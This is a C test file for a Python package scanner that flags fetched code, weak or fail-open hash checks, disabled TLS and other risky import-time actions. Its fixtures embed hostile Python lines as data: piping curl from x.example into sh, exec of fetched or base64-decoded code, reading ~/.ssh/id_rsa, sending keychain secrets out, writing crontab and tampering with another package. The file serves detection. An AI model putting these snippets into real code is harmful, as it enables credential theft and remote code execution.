/* What a package fetches, how it checks it, and what it does with it. */
#include "test.h"

#include <stdlib.h>

#include "../fuzz/harness.h"
#include "fact/package.h"
#include "format/package/package.h"
#include "format/python/python.h"

#define FACTS_MAX 6

/* A module, and facts of it; one whose kind is FACT_KINDS ends the list. */
struct row {
    const char *what, *text;
    struct {
        enum fact_kind kind;
        unsigned flags;      /* all of these are set */
        const char *subject; /* NULL: any */
    } want[FACTS_MAX];
    enum fact_kind none[FACTS_MAX]; /* kinds that are not told; 0 ends it */
};

static void scan_text(struct harness *h, const char *text)
{
    struct member member = { .name = SPAN_LITERAL("p/__init__.py"), .raw = SPAN_EMPTY };
    struct archive a = { .kind = "zip", .members = &member, .n = 1 };
    const struct where *outer = h->scan.where;
    enum pratique_status st;

    h->scan.packages = PACKAGES_ALL;
    package_begin(&h->scan, &a);
    if (h->scan.package)
        h->scan.package->kind = PACKAGE_WHEEL;
    package_member(&h->scan, member.name, span_text(text));
    h->scan.name = member.name;
    h->scan.where = facts_where(h->scan.facts, outer, member.name);
    st = python_scan(&h->scan, span_text(text), 1);
    h->scan.where = outer;
    st = package_end(&h->scan, st);
    CHECK(st == PRATIQUE_OK, "status %d", st);
}

static const struct fact *find(const struct harness *h, enum fact_kind kind, const char *subject)
{
    for (size_t i = 0; i < h->facts.n; i++)
        if (h->facts.list[i].kind == kind &&
            (!subject || span_is(h->facts.list[i].subject, subject)))
            return &h->facts.list[i];
    return NULL;
}

static void check(const struct row *r, const struct harness *h)
{
    for (unsigned i = 0; i < FACTS_MAX && r->want[i].kind; i++) {
        const struct fact *f = find(h, r->want[i].kind, r->want[i].subject);

        CHECK(f != NULL, "%s: %s is told", r->what, fact_kind_name(r->want[i].kind));
        if (f)
            CHECK((f->flags & r->want[i].flags) == r->want[i].flags, "%s: flags %x of %s", r->what,
                  f->flags, fact_kind_name(f->kind));
    }
    for (unsigned i = 0; i < FACTS_MAX && r->none[i]; i++)
        CHECK(!find(h, r->none[i], NULL), "%s: %s is not told", r->what,
              fact_kind_name(r->none[i]));
}

static void check_all(const struct row *rows, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        struct harness h;

        harness_init(&h);
        scan_text(&h, rows[i].text);
        check(&rows[i], &h);
        harness_free(&h);
    }
}

#define HEAD                                                                                       \
    "import ctypes, hashlib, json, os, urllib.request\n"                                           \
    "PIN = '0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'\n"                   \
    "URL = 'https://x.example/a.so'\n"                                                             \
    "def get(u):\n    return urllib.request.urlopen(u).read()\n"
#define TAIL   "open('/tmp/a.so', 'wb').write(b)\nctypes.CDLL('/tmp/a.so')\n"
#define LOADED PKG_ON_IMPORT | PKG_USE_LOAD

TEST(flow_checks)
{
    static const struct row rows[] = {
        { "nothing is checked",
          HEAD "b = get(URL)\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, "ctypes.CDLL" } },
          { FACT_PKG_PINNED } },
        { "a pin",
          HEAD
          "b = get(URL)\nif hashlib.sha256(b).hexdigest() != PIN:\n    raise ImportError\n" TAIL,
          { { FACT_PKG_PINNED, PKG_ON_IMPORT, NULL } },
          { FACT_PKG_FETCH_USED, FACT_PKG_FAIL_OPEN } },
        { "a pin, and a warning",
          HEAD
          "b = get(URL)\nif hashlib.sha256(b).hexdigest() != PIN:\n    print('mismatch')\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED | PKG_CHECKED_ELSE, NULL } },
          { FACT_PKG_PINNED } },
        { "a helper that answers",
          HEAD "def good(x):\n    return hashlib.sha256(x).hexdigest() == PIN\n"
               "b = get(URL)\nif not good(b):\n    raise ImportError\n" TAIL,
          { { FACT_PKG_PINNED, 0, NULL } },
          { FACT_PKG_FETCH_USED } },
        { "an answer that nobody asks for",
          HEAD "def good(x):\n    return hashlib.sha256(x).hexdigest() == PIN\n"
               "b = get(URL)\ngood(b)\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { 0 } },
        { "a digest of the same place",
          HEAD "b = get(URL)\nif hashlib.sha256(b).hexdigest() != get(URL + '.sha256').decode():\n"
               "    raise ImportError\n" TAIL,
          { { FACT_PKG_CIRCULAR, 0, NULL }, { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { FACT_PKG_FAIL_OPEN } },
        { "a variable turns it off",
          HEAD "b = get(URL)\nif os.environ.get('SKIP') != '1':\n"
               "    if hashlib.sha256(b).hexdigest() != PIN:\n        raise ImportError\n" TAIL,
          { { FACT_PKG_SWITCH_OFF, 0, "SKIP" } },
          { FACT_PKG_FAIL_OPEN } },
        { "an exception leads past",
          HEAD "b = get(URL)\ntry:\n    want = json.loads(get(URL + '.json'))['sha256']\n"
               "except Exception:\n    want = None\n"
               "if want and hashlib.sha256(b).hexdigest() != want:\n    raise ImportError\n" TAIL,
          { { FACT_PKG_FAIL_OPEN, 0, "except Exception:" }, { FACT_PKG_CIRCULAR, 0, NULL } },
          { FACT_PKG_SWITCH_OFF } },
        { "an assert",
          HEAD "b = get(URL)\nassert hashlib.sha256(b).hexdigest() == PIN\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { 0 } },
        { "md5",
          HEAD "b = get(URL)\nif hashlib.md5(b).hexdigest() != PIN:\n    raise ImportError\n" TAIL,
          { { FACT_PKG_WEAK_DIGEST, 0, "md5" }, { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { 0 } },
        { "a part of the digest",
          HEAD "b = get(URL)\nif hashlib.sha256(b).hexdigest()[:8] != PIN[:8]:\n    raise "
               "ImportError\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { FACT_PKG_PINNED } },
        { "one of several pins",
          HEAD "b = get(URL)\nd = hashlib.sha256(b).hexdigest()\n"
               "if not any(d == p for p in (PIN, PIN[::-1])):\n    raise ImportError\n" TAIL,
          { { FACT_PKG_PINNED, 0, NULL } },
          { FACT_PKG_FETCH_USED } },
        { "offline",
          HEAD "if os.environ.get('P_OFFLINE'):\n    raise ImportError\nb = get(URL)\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { FACT_PKG_NO_OFFLINE } },
        { "from elsewhere",
          HEAD "b = get(os.environ.get('MIRROR', 'https://x.example') + '/a')\n" TAIL,
          { { FACT_PKG_REDIRECT, 0, "MIRROR" }, { FACT_PKG_NO_OFFLINE, 0, NULL } },
          { 0 } },
    };

    check_all(rows, ARRAY_LEN(rows));
}

TEST(flow_uses)
{
    static const struct row rows[] = {
        { "a process",
          HEAD "import subprocess\nb = get(URL)\nopen('/tmp/x', 'wb').write(b)\n"
               "os.chmod('/tmp/x', 0o755)\nsubprocess.run(['/tmp/x'])\n",
          { { FACT_PKG_FETCH_USED, PKG_ON_IMPORT | PKG_USE_EXEC, "subprocess.run" } },
          { 0 } },
        { "code",
          HEAD "exec(get(URL))\n",
          { { FACT_PKG_FETCH_USED, PKG_ON_IMPORT | PKG_USE_EXEC, NULL } },
          { 0 } },
        { "chunks",
          HEAD "import shutil\nwith urllib.request.urlopen(URL) as r, open('/tmp/y', 'wb') as f:\n"
               "    while True:\n        c = r.read(9)\n        if not c:\n            break\n"
               "        f.write(c)\nctypes.CDLL('/tmp/y')\n",
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { 0 } },
        { "a shell",
          "import os\nos.system('curl -s https://x.example | sh')\n",
          { { FACT_PKG_PIPE_SHELL, PKG_ON_IMPORT, NULL } },
          { 0 } },
        { "decoded",
          "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
          { { FACT_PKG_ENCODED, PKG_ON_IMPORT, NULL } },
          { 0 } },
        { "a private file",
          "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
          { { FACT_PKG_READS, PKG_ON_IMPORT, "~/.ssh/id_rsa" } },
          { 0 } },
        { "a library of the system",
          "import ctypes\nctypes.CDLL('libc.so.6')\n",
          { { 0, 0, NULL } },
          { FACT_PKG_LOADS_WRITABLE, FACT_PKG_FETCH_USED } },
    };

    check_all(rows, ARRAY_LEN(rows));
}

TEST(flow_past)
{
    static const struct row rows[] = {
        { "a mismatch that is printed",
          HEAD "b = get(URL)\nif hashlib.sha256(b).hexdigest() != PIN:\n    print('no')\n" TAIL,
          { { FACT_PKG_FAIL_OPEN, 0, NULL } },
          { FACT_PKG_PINNED } },
        { "the last of three tries",
          HEAD "for i in range(3):\n    b = get(URL)\n"
               "    if hashlib.sha256(b).hexdigest() == PIN:\n        break\n" TAIL,
          { { FACT_PKG_FAIL_OPEN, 0, NULL } },
          { 0 } },
        { "tries, and then an error",
          HEAD "for i in range(3):\n    b = get(URL)\n"
               "    if hashlib.sha256(b).hexdigest() == PIN:\n        break\n"
               "else:\n    raise ImportError\n" TAIL,
          { { FACT_PKG_PINNED, 0, NULL } },
          { FACT_PKG_FAIL_OPEN, FACT_PKG_FETCH_USED } },
        { "an empty list of pins",
          HEAD "GOOD = []\nb = get(URL)\nd = hashlib.sha256(b).hexdigest()\n"
               "for g in GOOD:\n    if d != g:\n        raise ImportError\n" TAIL,
          { { FACT_PKG_FAIL_OPEN, 0, NULL }, { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { 0 } },
        { "a pin that nobody gives",
          HEAD "def f(u, want=None):\n    b = get(u)\n"
               "    if want and hashlib.sha256(b).hexdigest() != want:\n        raise ImportError\n"
               "    return b\nb = f(URL)\n" TAIL,
          { { FACT_PKG_FAIL_OPEN, 0, NULL } },
          { 0 } },
        { "an option that has nothing to do with it",
          HEAD "def f(u, proxy=None):\n    if proxy:\n        print(proxy)\n    return get(u)\n"
               "b = f(URL)\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { FACT_PKG_FAIL_OPEN } },
        { "whether a variable is set",
          HEAD "b = get(URL)\nif 'SKIP' not in os.environ:\n"
               "    if hashlib.sha256(b).hexdigest() != PIN:\n        raise ImportError\n" TAIL,
          { { FACT_PKG_SWITCH_OFF, 0, "SKIP" } },
          { FACT_PKG_FAIL_OPEN } },
        { "a variable that says where the cache is",
          HEAD "c = os.environ.get('CACHE', '/var/x')\np = c + '/a.so'\n"
               "if not os.path.exists(p):\n    b = get(URL)\n"
               "    if hashlib.sha256(b).hexdigest() != PIN:\n        raise ImportError\n"
               "    open(p, 'wb').write(b)\nctypes.CDLL(p)\n",
          { { FACT_PKG_CACHED, PKG_ON_IMPORT, NULL } },
          { FACT_PKG_SWITCH_OFF } },
        { "what lies in the folder of a cache",
          HEAD "def find(d):\n    l = []\n    for c in os.listdir(d):\n"
               "        if c.endswith('.so'):\n            l.append(os.path.join(d, c))\n"
               "    return l[0] if l else None\nd = os.path.expanduser('~/.cache/x')\n"
               "n = find(d)\nif n is None:\n    n = d + '/a.so'\n"
               "    open(n, 'wb').write(get(URL))\nctypes.CDLL(n)\n",
          { { FACT_PKG_CACHED, PKG_ON_IMPORT, NULL }, { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { FACT_PKG_LOADS_WRITABLE } },
        { "a digest in the answer's head",
          "import ctypes, hashlib, requests\nr = requests.get('https://x.example/a.so')\n"
          "if hashlib.sha256(r.content).hexdigest() != r.headers['x-sha']:\n    raise ImportError\n"
          "open('/tmp/a.so', 'wb').write(r.content)\nctypes.CDLL('/tmp/a.so')\n",
          { { FACT_PKG_CIRCULAR, 0, NULL } },
          { 0 } },
    };

    check_all(rows, ARRAY_LEN(rows));
}

TEST(flow_private)
{
    static const struct row rows[] = {
        { "the clipboard",
          "import pyperclip\nt = pyperclip.paste()\n",
          { { FACT_PKG_READS, PKG_ON_IMPORT, "clipboard" } },
          { 0 } },
        { "the keys of a Mac, sent",
          "import subprocess, urllib.request\n"
          "k = subprocess.run(['security', 'find-generic-password', '-wa', 'x']).stdout\n"
          "urllib.request.urlopen('https://x.example', k)\n",
          { { FACT_PKG_READS, 0, "keyring" }, { FACT_PKG_SENDS, PKG_ON_IMPORT, NULL } },
          { 0 } },
        { "a token for its own service, when somebody asks",
          "import os, requests\nTOKEN = os.environ.get('X_TOKEN')\n"
          "def ask(p):\n    return requests.get('https://x.example/' + p,\n"
          "                        headers={'Authorization': TOKEN})\n",
          { { 0, 0, NULL } },
          { FACT_PKG_SENDS } },
        { "cron",
          "import subprocess\nsubprocess.run(['crontab', '-'], input='* * * * * x')\n",
          { { FACT_PKG_WRITES, PKG_ON_IMPORT, "crontab" } },
          { 0 } },
        { "cron is read",
          "import subprocess\nsubprocess.run(['crontab', '-l'])\n",
          { { 0, 0, NULL } },
          { FACT_PKG_WRITES } },
        { "another package's code",
          "import requests\nopen(requests.__file__, 'a').write('import x')\n",
          { { FACT_PKG_WRITES, PKG_ON_IMPORT, "{site-packages}/requests/__init__.py" } },
          { 0 } },
        { "a context that verifies nothing, and fetches",
          "import ssl, urllib.request\nc = ssl.create_default_context()\n"
          "c.check_hostname = False\nc.verify_mode = ssl.CERT_NONE\n"
          "urllib.request.urlopen('https://x.example', context=c)\n",
          { { FACT_PKG_TLS_OFF, PKG_ON_IMPORT, NULL } },
          { 0 } },
        { "the same that fetches nothing",
          "import ssl\nc = ssl.create_default_context()\nc.verify_mode = ssl.CERT_NONE\n",
          { { 0, 0, NULL } },
          { FACT_PKG_TLS_OFF } },
        { "pycurl",
          "import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\n"
          "c.setopt(pycurl.URL, 'https://x.example')\nc.setopt(c.WRITEFUNCTION, b.write)\n"
          "c.perform()\nexec(b.getvalue())\n",
          { { FACT_PKG_FETCH_USED, PKG_ON_IMPORT | PKG_USE_EXEC, "exec" } },
          { 0 } },
    };

    check_all(rows, ARRAY_LEN(rows));
}
